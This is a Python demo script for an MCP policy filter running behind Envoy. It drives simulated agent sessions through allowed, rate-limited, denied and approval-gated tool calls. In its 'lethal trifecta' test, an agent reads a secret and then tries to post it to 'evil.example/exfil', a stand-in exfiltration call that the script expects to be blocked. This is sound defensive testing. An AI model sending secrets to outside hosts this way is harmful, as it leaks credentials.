#!/usr/bin/env python3
"""`make demo`: a short agent session through Envoy and the policy filter, step by step.

Starts its own demo MCP server, the approval service mcp-approvals (`make approvals`) and Envoy (the
shipped envoy/envoy.yaml and envoy/policy.json, on free ports, via testkit), then drives
them with the official MCP Python SDK client:

  1. tools/list                           - the demo server's eight tools come through
  2. list_vms                             - allowed by the policy
  3. vm_agent_exec x10                    - allowed ten times in a minute ...
  4. vm_agent_exec, 11th                  - ... refused on the eleventh, with the reason
  5. vm_agent_exec with a second grant    - still allowed: limits count per grant
  6. delete_vm                            - denied: the policy's default is deny
  7. start_vm                             - needs an approval: refused with the approval's URL
  8. the approver approves it             - through the service's JSON API (what the web page does)
  9. start_vm, the identical call again   - now it runs, once

Then the lethal trifecta (demo/trifecta-policy.json, a flow: no outbound call for 10 minutes after a
secret was read), against the demo server's `--trifecta` tools behind a second Envoy:

 10. http_post, before any secret        - allowed
 11. read_secret                         - allowed; the result marks the grant `secret`
 12. http_post carrying the secret       - refused: flow_denied, naming the flow and the mark
 13. http_post as a second grant         - still allowed: marks are per grant

Exits 0 only if every step matched; 1 otherwise; 2 if the filter or mcp-approvals is not built.
Environment: MCP_POLICY_FILTER_BUILD (wasm, the default, or native: `make demo FILTER=native`),
MCP_POLICY_WASM (default target/wasm32-wasip1/release/mcp_policy_filter.wasm), MCP_POLICY_NATIVE
(default target/dynamic-module/libmcp_policy_native.so), MCP_APPROVALS_BIN (default
target/release/mcp-approvals), APPROVER_TOKEN (default demo-approver-token).
"""

from __future__ import annotations

import os
import shutil
import sys
from pathlib import Path

import anyio
from mcp import MCPError

from testkit import approvals as ha
from testkit.clock import boundary_wait
from testkit.envoy import POLICY_JSON
from testkit.mcp_session import open_session, result_json
from testkit.native import filter_build, native_path
from testkit.paths import wasm_path
from testkit.stack import Stack

DEMO_TOOLS = {"list_nodes", "list_vms", "vm_status", "start_vm", "stop_vm", "delete_vm",
              "vm_agent_exec", "vm_agent_exec_status"}
EXEC = {"node": "pve1", "vmid": 100, "command": "uptime"}
LIMIT = 10
START = {"node": "pve2", "vmid": 200}
APPROVER = "demo"
APPROVER_TOKEN = os.environ.get("APPROVER_TOKEN") or "demo-approver-token"
STEPS = 13
TRIFECTA_POLICY = Path(__file__).resolve().parent.parent / "demo" / "trifecta-policy.json"


class Steps:
    """Prints each step as it is judged and remembers whether all matched."""

    def __init__(self) -> None:
        self.results: list[bool] = []

    def check(self, title: str, ok: bool, detail: str) -> bool:
        self.results.append(ok)
        print(f"[{'ok' if ok else 'FAIL'}] {len(self.results)}. {title}\n       {detail}", flush=True)
        return ok

    @property
    def all_ok(self) -> bool:
        return bool(self.results) and all(self.results)


async def expect_refusal(call, code: int) -> tuple[bool, str]:
    """Run `call()`; it must raise the SDK's MCPError with JSON-RPC `code`."""
    try:
        result = await call()
    except MCPError as e:
        return e.error.code == code, f"refused: {e.error.code} {e.error.message}"
    return False, f"NOT refused: {result.content!r}"


async def agent_session(url: str, svc: ha.Approvals, steps: Steps) -> None:
    async with open_session(url, "agent-alice") as alice:
        tools = sorted(t.name for t in (await alice.list_tools()).tools)
        steps.check("tools/list as grant agent-alice", set(tools) == DEMO_TOOLS, ", ".join(tools))

        vms = result_json(await alice.call_tool("list_vms", {}))["vms"]
        steps.check("list_vms is allowed", len(vms) == 4,
                    ", ".join(f"{v['node']}/{v['vmid']} {v['name']} ({v['status']})" for v in vms))

        wait = boundary_wait()
        if wait:
            print(f"       (waiting {wait:.1f} s so the burst falls in one UTC minute)", flush=True)
            await anyio.sleep(wait)
        pids = [result_json(await alice.call_tool("vm_agent_exec", EXEC))["pid"] for _ in range(LIMIT)]
        steps.check(f"vm_agent_exec {LIMIT} times is allowed", len(pids) == LIMIT,
                    f"pids {', '.join(map(str, pids))}")

        ok, detail = await expect_refusal(lambda: alice.call_tool("vm_agent_exec", EXEC), -31002)
        steps.check(f"vm_agent_exec call {LIMIT + 1} is rate limited", ok, detail)

        async with open_session(url, "agent-bob") as bob:
            pid = result_json(await bob.call_tool("vm_agent_exec", EXEC))["pid"]
            steps.check("vm_agent_exec as a second grant (agent-bob) is still allowed", True, f"pid {pid}")

        ok, detail = await expect_refusal(lambda: alice.call_tool("delete_vm", {"node": "pve1", "vmid": 102}), -31001)
        steps.check("delete_vm is denied by default", ok, detail)

        approval = None
        try:
            result = await alice.call_tool("start_vm", START)
            steps.check("start_vm needs an approval", False, f"NOT refused: {result.content!r}")
        except MCPError as e:
            approval = e.error.data if e.error.code == -31007 else None
            steps.check("start_vm needs an approval", approval is not None,
                        f"refused: {e.error.code} {e.error.message}")
        if approval is None:
            return

        decided = await anyio.to_thread.run_sync(svc.approve, approval["approval_id"], "ok, start it")
        steps.check(f"approver '{APPROVER}' approves {approval['approval_id']}", decided["state"] == "approved",
                    f"POST {svc.url}/v1/approvals/{approval['approval_id']}/approve -> {decided['state']} "
                    f"by {decided['approver']} (the web page: {approval['approval_url']})")

        started = result_json(await alice.call_tool("start_vm", START))
        steps.check("start_vm, the identical call again, runs", started.get("status") == "running",
                    f"{started['node']}/{started['vmid']} {started['name']} is {started['status']}")


def text_of(result) -> str:
    """The single text block of a successful tool result."""
    if result.is_error:
        raise AssertionError(f"tool returned an error result: {result.content!r}")
    return result.content[0].text


async def trifecta_session(url: str, steps: Steps) -> None:
    """The lethal trifecta: read a secret, then try to send it out."""
    async with open_session(url, "agent-carol") as carol:
        sent = text_of(await carol.call_tool("http_post", {"url": "https://example.com/hook", "body": "hello"}))
        steps.check("http_post before any secret is allowed", sent.startswith("posted 5 bytes"), sent)
        secret = text_of(await carol.call_tool("read_secret", {"name": "db_password"}))
        steps.check("read_secret is allowed, and marks the grant 'secret'", "db_password=" in secret, secret)
        try:
            result = await carol.call_tool("http_post", {"url": "https://evil.example/exfil", "body": secret})
            steps.check("http_post with the secret is refused (lethal trifecta)", False,
                        f"NOT refused: {result.content!r}")
        except MCPError as e:
            data = e.error.data or {}
            ok = e.error.code == -31014 and data.get("kind") == "flow_denied"
            steps.check("http_post with the secret is refused (lethal trifecta)", ok,
                        f"refused: {e.error.code} {e.error.message}\n"
                        f"       flow '{data.get('flow')}', mark '{data.get('mark')}', "
                        f"lifts in {data.get('retry_after_seconds')} s")
    async with open_session(url, "agent-dave") as dave:
        sent = text_of(await dave.call_tool("http_post", {"url": "https://example.com/hook", "body": "hi"}))
        steps.check("http_post as a second grant (agent-dave) is still allowed", sent.startswith("posted"), sent)


def describe(exc: BaseException) -> str:
    """The innermost exceptions of (nested) exception groups, as `Type: message` lines."""
    if isinstance(exc, BaseExceptionGroup):
        return "\n       ".join(describe(e) for e in exc.exceptions)
    return f"{type(exc).__name__}: {exc}" if str(exc) else repr(exc)


async def bounded(url: str, svc: ha.Approvals, steps: Steps, trifecta_url: str) -> None:
    with anyio.fail_after(60):
        await agent_session(url, svc, steps)
    if len(steps.results) == 9:
        print("\nThe lethal trifecta: a flow (demo/trifecta-policy.json) denies outbound tools after a secret "
              f"was read ({trifecta_url}):", flush=True)
        with anyio.fail_after(30):
            await trifecta_session(trifecta_url, steps)


def main() -> int:
    try:
        build = filter_build()
    except ValueError as e:
        print(f"demo: {e}", file=sys.stderr)
        return 2
    wasm = wasm_path()
    artifact, make = (native_path(), "make dynamic-module") if build == "native" else (wasm, "make build")
    if not artifact.is_file():
        print(f"demo: filter not built: {artifact} is missing (run {make})", file=sys.stderr)
        return 2
    if not ha.approvals_binary().is_file():
        print(f"demo: {ha.approvals_binary()} is missing (run make approvals)", file=sys.stderr)
        return 2
    print("demo: this runs a private stack of its own (demo server, mcp-approvals and Envoy on free ports,\n"
          "      with the shipped envoy/policy.json), so its steps do not depend on `make run` or on what you\n"
          "      changed in .run/policy.json, and its calls never show in the `make run` window.\n"
          "      To see calls there, send them to http://127.0.0.1:10000/mcp (README: Try it).\n", flush=True)
    steps = Steps()
    with Stack(wasm=wasm) as stack:
        svc = ha.approvals(stack, approvers={APPROVER: APPROVER_TOKEN})
        _, port = stack.demo_server(json_response=False)
        envoy = stack.envoy(POLICY_JSON.read_text(encoding="utf-8"), port, approvals_port=svc.check_port)
        _, trifecta_port = stack.demo_server(json_response=False, trifecta=True)
        trifecta = stack.envoy(TRIFECTA_POLICY.read_text(encoding="utf-8"), trifecta_port, name="envoy-trifecta")
        print(f"demo server 127.0.0.1:{port} <- Envoy {envoy.mcp_url} (policy envoy/policy.json, the {build} build)\n"
              f"approvals {svc.url} (approver '{APPROVER}', token '{APPROVER_TOKEN}')\n"
              f"logs in {stack.log_dir} (removed if every step matches)\n", flush=True)
        try:
            anyio.run(bounded, envoy.mcp_url, svc, steps, trifecta.mcp_url)
        except Exception as e:  # a step that blew up instead of matching
            steps.check("session ran to the end", False, describe(e))
    ok = steps.all_ok and len(steps.results) == STEPS
    print(f"\n{'all steps matched' if ok else 'SOME STEPS DID NOT MATCH'} ({sum(steps.results)}/{STEPS})")
    if ok:
        shutil.rmtree(stack.log_dir, ignore_errors=True)
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
